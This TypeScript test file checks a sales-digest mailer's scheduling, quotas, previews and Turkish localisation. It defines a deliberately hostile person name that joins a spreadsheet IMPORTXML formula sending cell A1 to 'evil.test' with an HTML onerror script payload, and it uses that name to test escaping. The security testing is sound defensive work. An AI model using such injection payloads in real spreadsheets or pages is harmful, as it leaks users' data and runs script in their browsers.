import { afterEach, describe, expect, test } from "vitest";
import type { DigestPlan } from "../../src/calls/digests.ts";
import type { FileSheet, Host, HostOptions } from "../../src/host/host.ts";
import { CARDS, TEAM } from "../digests/plans.ts";
import { goalOf } from "../jobs/world.ts";
import { call, day, done, open, START_MS } from "./open.ts";

const HOUR_MS = 3_600_000;
const DAY_MS = 24 * HOUR_MS;
/** What people may be called. */
const HOSTILE = '=IMPORTXML("http://evil.test/?"&A1;"//a")<img src=x onerror=alert(1)>';

const deal = (stage: string, amount: number, closed: string, owner: string) => [
  ...[stage, "Acme", amount, day("2026-09-01"), day(closed), owner],
];
const DEALS: FileSheet = {
  name: "Deals",
  rows: [
    ["Deal Stage", "Company name", "Amount", "Create Date", "Close Date", "Deal owner"],
    deal("Won", 100, "2026-09-07", "Ece"),
    deal("Won", 100, "2026-10-05", "Ece"),
    deal("Lost", 0, "2026-10-06", "Ece"),
    deal("Won", 300, "2026-10-12", "Cem"),
    deal("Won", 250, "2026-11-03", "Cem"),
    deal("Lost", 0, "2026-11-10", "Ece"),
    deal("Won", 50, "2026-11-11", HOSTILE),
  ],
};
const PEOPLE: FileSheet = {
  name: "People",
  rows: [
    ["Name", "E-mail", "Hire date"],
    ["Ece", "ece@example.com", day("2024-01-01")],
    ["Cem", "cem@example.com", day("2024-01-01")],
    [HOSTILE, "mallory@example.com", day("2024-01-01")],
  ],
};

let host: Host;
afterEach(() => host.dispose());

/** The last day of October, at noon in Istanbul, or another moment. */
const SATURDAY_MS = Date.UTC(2026, 9, 31, 9);

async function opened(changes: Partial<HostOptions> = {}): Promise<void> {
  host = await open([DEALS, PEOPLE], { nowMs: SATURDAY_MS, ...changes });
  const { candidates } = await done(host, "open");
  const sources = candidates.flatMap(({ kind, sheetId, sheetName, guess }) =>
    kind === null ? [] : [{ value: { kind, sheetId, sheetName, columns: guess }, revision: "" }],
  );
  expect(sources.map(({ value }) => value.kind).sort()).toEqual(["deals", "people"]);
  await done(host, "saveSources", sources);
}

const save = (plan: DigestPlan) => done(host, "saveDigest", { value: plan, revision: "" });
const team: DigestPlan = { ...TEAM, period: "month" };
const cards: DigestPlan = { ...CARDS, period: "month" };

/** By the spreadsheet's clock: day, hour, to whom. */
const got = () =>
  host.inbox.map(({ to, sentMs }) => {
    const wall = new Date(sentMs + 3 * HOUR_MS).toISOString();
    return `${wall.slice(5, 13)} ${to.join()}`;
  });

describe("digests as the days go by", () => {
  test("on the first of the month everybody's own, on Mondays the team's, and nothing else", async () => {
    await opened();
    await save(team);
    await save(cards);
    await done(host, "setTrigger", true);
    await host.advance(9 * DAY_MS);
    expect(got().map((line) => line.replace("T08", "").replace("T09", ""))).toEqual([
      "11-01 cem@example.com",
      "11-01 ece@example.com",
      "11-02 ada@example.com",
      "11-02 can@example.com",
      "11-09 ada@example.com",
      "11-09 can@example.com",
    ]);
    expect(host.executions.filter(({ kind, error }) => kind === "trigger" && error !== null)).toEqual([]);
    const [cem, , ada, can] = host.inbox;
    // In October Cem won 300, Ece 100 and the third nothing; of the two who closed any deal, all and a half.
    expect(cem?.text).toMatch(/Sales volume: 300 \(better than the median of 100 /);
    expect(cem?.text).toMatch(/Win rate: 100% \(better than the median of 75% /);
    expect(ada?.text).toMatch(/Sales volume: .*400 \(up 300 /);
    expect(can?.text).toMatch(/Satış hacmi: .*400 \(300 arttı /);
    const { digests } = await done(host, "digests");
    expect(digests.map(({ last }) => last?.to.map(({ person, address }) => `${person} ${address}`))).toEqual([
      [" ada@example.com", " can@example.com"],
      ["Cem cem@example.com", "Ece ece@example.com"],
    ]);
  }, 180_000);

  test("what the day's mails do not suffice for goes out the day after, each once", async () => {
    await opened({ nowMs: Date.UTC(2026, 10, 2, 4) });
    const numbers = [...Array(50).keys()];
    for (const id of ["a", "b", "c"]) {
      const recipients = numbers.map((i) => ({
        address: `${id}${i}@example.com`,
        language: "auto" as const,
      }));
      await save({ ...TEAM, id, recipients });
    }
    await done(host, "setTrigger", true);
    await host.advance(6 * HOUR_MS);
    expect(new Set(got().map((line) => line.slice(0, 5)))).toEqual(new Set(["11-02"]));
    expect(host.inbox).toHaveLength(100);
    expect((await done(host, "open")).trigger.lastProblem).toContain("50 mails wait");
    await host.advance(26 * HOUR_MS);
    expect(host.inbox).toHaveLength(150);
    expect(new Set(host.inbox.map(({ to }) => to.join())).size).toBe(150);
    expect((await done(host, "digests")).digests.map(({ sending }) => sending)).toEqual([
      false,
      false,
      false,
    ]);
  }, 180_000);

  test("what is switched off is mailed to nobody, nor is what the hourly check was off for", async () => {
    await opened({ nowMs: Date.UTC(2026, 10, 2, 4) });
    await save({ ...team, active: false });
    await save(cards);
    await done(host, "setTrigger", true);
    await host.advance(4 * HOUR_MS);
    const { digests } = await done(host, "open");
    const [saved] = digests;
    if (saved === undefined) throw new Error("not saved");
    await done(host, "saveDigest", { ...saved, value: { ...saved.value, active: true } });
    await host.advance(4 * HOUR_MS);
    expect(got()).toEqual([]);
    expect((await done(host, "digests")).digests[0]).toMatchObject({ last: null, sending: false });
  }, 60_000);
});

describe("before anything is sent", () => {
  test("the preview is the mail, and sends nothing; the sample goes to who looks alone", async () => {
    await opened({ nowMs: START_MS });
    await done(host, "saveGoal", { value: goalOf("sales-volume", 500, { period: "month" }), revision: "" });
    const preview = await done(host, "previewDigest", { ...TEAM, active: false }, null);
    expect(host.inbox).toEqual([]);
    // October: 100 and 300 won.
    expect(preview.text).toContain("400");
    expect(preview.to).toEqual(["ada@example.com", "can@example.com"]);
    const sample = await done(host, "sendDigestSample", TEAM, null);
    expect(sample.to).toBe("ada@example.com");
    expect(host.inbox.map(({ to }) => to)).toEqual([["ada@example.com"]]);
    expect(sample.text).toBe(preview.text);
  });

  test("a mail for a Turkish reader is Turkish, whatever the file's language", async () => {
    await opened({ nowMs: START_MS });
    const turkish = { ...TEAM, recipients: [{ address: "can@example.com", language: "tr" as const }] };
    const { text } = await done(host, "previewDigest", turkish, null);
    expect(text).toContain("Ne değişti");
    expect(text).not.toContain("What has moved");
  });

  test("whose scorecard it is can be chosen, and names are text", async () => {
    await opened({ nowMs: START_MS });
    const monthly: DigestPlan = { ...CARDS, period: "month" };
    const first = await done(host, "previewDigest", monthly, null);
    expect(first.people).toEqual(["Cem", "Ece"]);
    expect(first).toMatchObject({ person: "Cem", to: ["cem@example.com"], unaddressed: [] });
    const ece = await done(host, "previewDigest", monthly, "ece");
    expect(ece.to).toEqual(["ece@example.com"]);
    const nobody = await call(host, "previewDigest", monthly, HOSTILE);
    expect(nobody).toMatchObject({ ok: false, code: "invalid" });
  });

  test("a person may be called anything", async () => {
    await opened({ nowMs: Date.UTC(2026, 11, 1, 9) });
    const hostile = await done(host, "previewDigest", { ...CARDS, period: "month" }, HOSTILE);
    expect(hostile).toMatchObject({ person: HOSTILE, to: ["mallory@example.com"] });
    expect(hostile.html).not.toContain("<img src=x");
    expect(hostile.subject).not.toMatch(/[\r\n]/);
  });
});
